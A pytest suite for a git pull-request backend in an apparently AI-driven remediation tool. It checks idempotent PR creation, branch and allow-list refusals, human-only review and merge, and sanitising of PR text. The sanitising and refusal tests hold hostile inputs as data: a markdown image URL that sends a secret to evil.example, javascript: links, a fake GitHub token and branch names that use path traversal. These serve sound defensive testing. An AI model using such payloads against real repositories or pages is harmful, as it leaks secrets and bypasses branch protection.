"""The git PR backend against real git (a local bare remote) and the state DB (SQLite and PostgreSQL).

Covers issue 6 and RELIABILITY.md #19: idempotent open/update by key (retries and concurrent calls give
one PR), refusals for protected branches, repositories outside the tenant's allow-list and bots that
try to review or merge (each refusal in the ledger), and the human review -> merge flow with a real
merge commit on the remote's default branch. Also the PR body's format and sanitising.
"""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.engine import Engine

from maestro.core.authority import Authority, Principal
from maestro.core.authorize import Authorizer
from maestro.core.errors import InvalidRequest, NotFound, PolicyDenied
from maestro.core.policy import RegoEngine
from maestro.tools.prs import (
    BodyInput,
    DecisionLine,
    GitFailed,
    PRBackend,
    RepoRef,
    TestResult,
    TestRun,
    render_body,
    sanitize_markdown,
)
from maestro.tools.prs.git_backend import GitBackend
from maestro.tools.prs.gitcli import Git
from maestro.tools.prs.testing import commit_file, is_ancestor, ref_sha, scratch_remote

POLICY_DIR = Path(__file__).resolve().parents[2] / "maestro" / "core" / "policies"
TOKEN = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"


def who(name: str, kind: str, *scopes: str, tenant: str = "acme", run_id: str | None = None) -> Authority:
    principal = Principal(id=f"{kind}:{name}", tenant=tenant, name=name, kind=kind, scopes=frozenset(scopes))  # type: ignore[arg-type]
    return Authority(principal=principal, scopes=frozenset(scopes), run_id=run_id)


BOT = who("remediator", "bot", "repo:propose", run_id="run_1")
ENGINEER = who("ana", "user", "repo:propose")
MERGER = who("mo", "user", "repo:propose", "repo:merge")


class Recorder:
    def __init__(self) -> None:
        self.entries: list[tuple[str, dict[str, Any]]] = []

    def __call__(self, kind: str, payload: dict[str, Any]) -> None:
        self.entries.append((kind, payload))

    def kinds(self) -> list[str]:
        return [kind for kind, _ in self.entries]


@pytest.fixture(scope="module")
def rego() -> RegoEngine:
    return RegoEngine(POLICY_DIR)


@pytest.fixture
def recorder() -> Recorder:
    return Recorder()


@pytest.fixture
def remote(tmp_path: Path) -> tuple[str, Path]:
    return scratch_remote(tmp_path / "repo")


def make_backend(engine: Engine, rego: RegoEngine, recorder: Recorder) -> GitBackend:
    return GitBackend(engine, Authorizer(rego, record=recorder), recorder)


def ref(url: str, **kw: Any) -> RepoRef:
    return RepoRef(url=url, tenant=kw.pop("tenant", "acme"), allowed=kw.pop("allowed", (url,)), **kw)


def open_pr(backend: PRBackend, who_: Authority, url: str, work: Path, **kw: Any) -> Any:
    args: dict[str, Any] = {
        "repo": ref(url),
        "source": work,
        "branch": "maestro/remediate/run_1",
        "title": "Fix the weak TLS setting",
        "body": "## Summary\n\nraise TLS to 1.2\n",
        "labels": ["remediation"],
        "idempotency_key": "run_1:remediate:open_pr",
    }
    args.update(kw)
    return backend.open_or_update(who_, **args)


# -- open, retry, concurrency (both databases) ---------------------------------------------------------


def test_open_records_the_pr_and_pushes_the_branch(
    engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    head = commit_file(work, "tls.conf", "min=1.2\n")
    backend = make_backend(engine, rego, recorder)
    assert isinstance(backend, PRBackend)
    pr = open_pr(backend, BOT, url, work, ledger_ids=["led_1", "dec_2"])
    assert (pr.state, pr.branch, pr.base, pr.head_sha, pr.repo) == (
        "open",
        "maestro/remediate/run_1",
        "main",
        head,
        url,
    )
    assert (pr.opened_by, pr.run_id, pr.labels, pr.ledger_ids) == (
        "bot:remediator",
        "run_1",
        ("remediation",),
        ("led_1", "dec_2"),
    )
    assert pr.body.startswith("## Summary") and pr.tenant == "acme" and pr.backend == "git"
    assert ref_sha(url, "refs/heads/maestro/remediate/run_1", cwd=work) == head
    assert ref_sha(url, "refs/heads/main", cwd=work) != head  # the default branch is untouched
    assert backend.get(BOT, pr.id) == pr
    assert recorder.kinds() == ["pr.opened"]
    entry = recorder.entries[0][1]
    assert entry["pr_id"] == pr.id and entry["head_sha"] == head and entry["run_id"] == "run_1"
    assert "body" not in entry and "title" not in entry  # ids only in the ledger
    assert pr.to_dict()["labels"] == ["remediation"]


def test_retry_with_the_same_key_updates_the_same_pr(
    engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    first_head = commit_file(work, "a.txt", "1\n")
    backend = make_backend(engine, rego, recorder)
    first = open_pr(backend, BOT, url, work)
    again = open_pr(backend, BOT, url, work)  # a redelivered task: nothing changed
    assert again.id == first.id and again.head_sha == first_head
    second_head = commit_file(work, "a.txt", "2\n")
    updated = open_pr(backend, BOT, url, work, title="Fix TLS (v2)", labels=["remediation", "tls"])
    assert updated.id == first.id
    assert (updated.title, updated.labels, updated.head_sha) == (
        "Fix TLS (v2)",
        ("remediation", "tls"),
        second_head,
    )
    assert [p.id for p in backend.list(BOT)] == [first.id]  # one row
    assert ref_sha(url, "refs/heads/maestro/remediate/run_1", cwd=work) == second_head
    assert recorder.kinds() == ["pr.opened", "pr.updated", "pr.updated"]


def test_concurrent_opens_with_one_key_make_one_pr(
    engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    head = commit_file(work, "c.txt", "c\n")
    backend = make_backend(engine, rego, recorder)
    results: list[str] = []
    errors: list[BaseException] = []
    barrier = threading.Barrier(4)

    def run() -> None:
        try:
            barrier.wait()
            results.append(open_pr(backend, BOT, url, work).id)
        except BaseException as exc:  # collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=run) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert len(set(results)) == 1 and len(results) == 4
    assert len(backend.list(BOT)) == 1
    assert backend.get(BOT, results[0]).head_sha == head
    assert recorder.kinds().count("pr.opened") == 1


# -- refusals (RELIABILITY.md #19) ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("who_", "branch"),
    [
        (BOT, "main"),
        (BOT, "master"),
        (ENGINEER, "main"),
        (BOT, "HEAD:main"),
        (BOT, "refs/heads/main"),
        (BOT, "feature/x"),  # bots push maestro/* only
        (ENGINEER, "feature/x"),  # so does everyone, through the port
        (BOT, "maestro/../main"),
    ],
)
def test_pushing_outside_maestro_branches_is_refused(
    sqlite_engine: Engine,
    rego: RegoEngine,
    recorder: Recorder,
    remote: tuple[str, Path],
    who_: Authority,
    branch: str,
) -> None:
    url, work = remote
    main_before = ref_sha(url, "refs/heads/main", cwd=work)
    commit_file(work, "x.txt", "x\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    with pytest.raises(PolicyDenied):
        open_pr(backend, who_, url, work, branch=branch)
    assert ref_sha(url, "refs/heads/main", cwd=work) == main_before
    assert backend.list(who_) == []
    assert recorder.kinds()[-1] in ("policy.denied", "pr.refused")


def test_the_repositorys_own_default_branch_is_protected(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, tmp_path: Path
) -> None:
    url, work = scratch_remote(tmp_path / "r", default_branch="maestro/trunk")
    commit_file(work, "x.txt", "x\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    with pytest.raises(PolicyDenied, match="default branch"):
        open_pr(
            backend, BOT, url, work, repo=ref(url, default_branch="maestro/trunk"), branch="maestro/trunk"
        )
    assert recorder.kinds() == ["policy.denied"]


def test_a_repository_outside_the_tenants_allow_list_is_refused(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    commit_file(work, "x.txt", "x\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    with pytest.raises(PolicyDenied, match="allow-list"):
        open_pr(backend, BOT, url, work, repo=ref(url, allowed=("file:///srv/git/other.git",)))
    with pytest.raises(PolicyDenied):  # another tenant's reference, even with the URL allowed
        open_pr(backend, BOT, url, work, repo=ref(url, tenant="globex"))
    assert ref_sha(url, "refs/heads/maestro/remediate/run_1", cwd=work) is None
    assert backend.list(BOT) == []
    kind, payload = recorder.entries[0]
    assert kind == "policy.denied" and payload["tool"] == "pr.open" and url not in str(payload)


def test_a_remote_branch_this_pr_did_not_push_is_never_overwritten(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    theirs = commit_file(work, "theirs.txt", "theirs\n")
    Git().run(["push", "-q", url, "HEAD:refs/heads/maestro/remediate/run_1"], cwd=work)
    commit_file(work, "ours.txt", "ours\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    with pytest.raises(GitFailed, match="did not push"):
        open_pr(backend, BOT, url, work)
    assert ref_sha(url, "refs/heads/maestro/remediate/run_1", cwd=work) == theirs


def test_a_retry_must_keep_its_branch(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    commit_file(work, "x.txt", "x\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    open_pr(backend, BOT, url, work)
    with pytest.raises(InvalidRequest, match="same repository and branch"):
        open_pr(backend, BOT, url, work, branch="maestro/elsewhere")


def test_urls_with_credentials_are_refused(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder
) -> None:
    url = f"https://x-access-token:{TOKEN}@git.example.com/acme/app.git"
    backend = make_backend(sqlite_engine, rego, recorder)
    with pytest.raises(InvalidRequest, match="credentials") as caught:
        open_pr(backend, BOT, url, Path("/nonexistent"))
    assert TOKEN not in str(caught.value)


# -- review and merge ----------------------------------------------------------------------------------


def test_review_and_merge_by_humans_only(
    engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    head = commit_file(work, "fix.txt", "fixed\n")
    backend = make_backend(engine, rego, recorder)
    pr = open_pr(backend, BOT, url, work)

    with pytest.raises(PolicyDenied, match="human-only"):
        backend.review(BOT, pr.id, verdict="approve", note=None)
    bot_with_merge = who("remediator", "bot", "repo:propose", "repo:merge", run_id="run_1")
    with pytest.raises(PolicyDenied, match="human-only"):
        backend.merge(bot_with_merge, pr.id)
    with pytest.raises(PolicyDenied, match="repo:merge"):
        backend.merge(ENGINEER, pr.id)
    with pytest.raises(InvalidRequest, match="no approving review"):
        backend.merge(MERGER, pr.id)
    with pytest.raises(InvalidRequest, match="needs a note"):
        backend.review(ENGINEER, pr.id, verdict="request_changes", note=" ")

    changes = backend.review(ENGINEER, pr.id, verdict="request_changes", note="add a test")
    assert [(r.by, r.verdict, r.note) for r in changes.reviews] == [
        ("user:ana", "request_changes", "add a test")
    ]
    assert not changes.approved
    approved = backend.review(ENGINEER, pr.id, verdict="approve", note="thanks")
    assert approved.approved and len(approved.reviews) == 2

    merged = backend.merge(MERGER, pr.id)
    assert (merged.state, merged.merged_by) == ("merged", "user:mo") and merged.merge_sha
    main = ref_sha(url, "refs/heads/main", cwd=work)
    assert main == merged.merge_sha
    assert is_ancestor(url, head, "refs/heads/main", cwd=work)
    parents = (
        Git().run(["rev-list", "--parents", "-n", "1", "refs/maestro-test/check"], cwd=work).stdout.split()
    )
    assert len(parents) == 3  # a real merge commit: itself and two parents
    message = Git().run(["log", "-1", "--format=%B", "refs/maestro-test/check"], cwd=work).stdout
    assert f"Merge pull request {pr.id}" in message and "Merged-by: user:mo" in message

    with pytest.raises(InvalidRequest, match="is merged"):
        backend.merge(MERGER, pr.id)
    assert open_pr(backend, BOT, url, work).state == "merged"  # a late retry changes nothing
    kinds = recorder.kinds()
    assert kinds.count("policy.denied") == 3 and kinds[-3:] == ["pr.reviewed", "pr.reviewed", "pr.merged"]


def test_merge_refuses_a_head_nobody_reviewed(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    commit_file(work, "a.txt", "a\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    pr = open_pr(backend, BOT, url, work)
    backend.review(ENGINEER, pr.id, verdict="approve", note=None)
    moved = commit_file(work, "b.txt", "sneaky\n")
    Git().run(["push", "-q", "--force", url, f"{moved}:refs/heads/{pr.branch}"], cwd=work)
    main_before = ref_sha(url, "refs/heads/main", cwd=work)
    with pytest.raises(GitFailed, match="reviewed head"):
        backend.merge(MERGER, pr.id)
    assert ref_sha(url, "refs/heads/main", cwd=work) == main_before
    assert backend.get(MERGER, pr.id).state == "open"


def test_close_find_open_and_tenancy(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    commit_file(work, "w.yaml", "w: 1\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    weights = open_pr(
        backend,
        BOT,
        url,
        work,
        branch="maestro/eval/weights",
        labels=["routing-weights"],
        idempotency_key="w1",
    )
    other = open_pr(backend, BOT, url, work, branch="maestro/docs/x", labels=["docs"], idempotency_key="d1")
    assert [p.id for p in backend.find_open(BOT, repo=ref(url), label="routing-weights")] == [weights.id]
    assert [p.id for p in backend.find_open(BOT, repo=ref(url))] == [weights.id, other.id]
    with pytest.raises(NotFound):
        backend.get(who("eve", "user", "repo:propose", "repo:merge", tenant="globex"), weights.id)
    with pytest.raises(PolicyDenied):
        backend.close(BOT, other.id)
    closed = backend.close(ENGINEER, other.id)
    assert closed.state == "closed" and closed.closed_at
    assert [p.id for p in backend.list(BOT, state="open")] == [weights.id]


# -- the body -------------------------------------------------------------------------------------------


def _body_input() -> BodyInput:
    return BodyInput(
        summary="Raise the minimum TLS version to 1.2.",
        what=("`tls.conf`: min=1.2", "a regression test"),
        why="Control SC-8 requires TLS >= 1.2 (finding F-17).",
        tests=(
            TestRun(
                command="pytest tests/test_tls.py -q",
                exit_code=1,
                results=(
                    TestResult("tests/test_tls.py::test_min_version", "passed", 0.012),
                    TestResult(
                        "tests/test_tls.py::test_legacy | pipe", "failed", 0.5, "AssertionError: 1.0\nmore"
                    ),
                    TestResult("tests/test_tls.py::test_skip", "skipped"),
                ),
            ),
        ),
        decisions=(
            DecisionLine("dec_1", "remediate.fix", "smollm2-135m", 0.0, "cheapest eligible"),
            DecisionLine("dec_2", "remediate.fix", "gpt-4o-mini", 0.000123),
        ),
        ledger_ids=("led_10", "led_11"),
        run_id="run_1",
        workcell="remediate",
    )


def test_body_is_deterministic_markdown_with_every_section() -> None:
    body = render_body(_body_input())
    assert body == render_body(_body_input())
    assert body.index("## Summary") < body.index("## What") < body.index("## Why") < body.index("## Tests")
    assert body.index("## Tests") < body.index("## Router decisions") < body.index("## Ledger")
    assert "`pytest tests/test_tls.py -q` (exit code 1): 1 passed, 1 failed, 1 skipped" in body
    assert "| `tests/test_tls.py::test_legacy \\| pipe` | ❌ failed: AssertionError: 1.0 | 0.50s |" in body
    assert "| `dec_2` | remediate.fix | gpt-4o-mini | $0.000123 |  |" in body
    assert "Total model cost: **$0.000123** over 2 call(s)." in body
    assert "- run: `run_1`" in body and "- `led_11`" in body
    assert "workcell `remediate`" in body


def test_body_without_tests_says_so() -> None:
    body = render_body(BodyInput(summary="s", why="w"))
    assert "_No tests were run._" in body and "## Router decisions" not in body


def test_untrusted_text_is_sanitised() -> None:
    evil = (
        f"token {TOKEN}\n![x](https://evil.example/?d=SECRET) [click](javascript:alert(1)) "
        "<img src=https://evil.example/p.png> ok\u200b [docs](https://docs.example/ok)\n"
        "[ref]: javascript:alert(2)\n"
    )
    clean = sanitize_markdown(evil)
    assert TOKEN not in clean and "[redacted GITHUB_TOKEN]" in clean
    assert "evil.example/?d=SECRET" not in clean and "[image removed: x]" in clean
    assert "javascript:" not in clean and "click " in clean
    assert "<img" not in clean and "&lt;img" in clean
    assert "\u200b" not in clean and "[docs](https://docs.example/ok)" in clean
    assert sanitize_markdown(clean) == clean
    body = render_body(BodyInput(summary=evil, why="w", what=(evil,)))
    assert TOKEN not in body and "](javascript:" not in body and "?d=SECRET" not in body


def test_the_stored_body_and_title_are_sanitised(
    sqlite_engine: Engine, rego: RegoEngine, recorder: Recorder, remote: tuple[str, Path]
) -> None:
    url, work = remote
    commit_file(work, "x.txt", "x\n")
    backend = make_backend(sqlite_engine, rego, recorder)
    pr = open_pr(backend, BOT, url, work, title=f"fix\n{TOKEN}", body=f"![a](https://evil/?d={TOKEN})")
    assert TOKEN not in pr.title + pr.body and "\n" not in pr.title
    assert "https://evil" not in pr.body
